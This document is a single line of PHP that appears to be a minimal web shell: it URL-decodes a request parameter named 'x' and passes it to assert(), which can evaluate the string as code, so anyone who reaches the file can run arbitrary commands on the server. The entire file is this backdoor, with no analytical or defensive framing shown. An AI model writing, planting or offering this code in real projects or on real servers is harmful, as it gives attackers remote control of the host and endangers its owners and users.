<?php assert(urldecode($_REQUEST['x']));
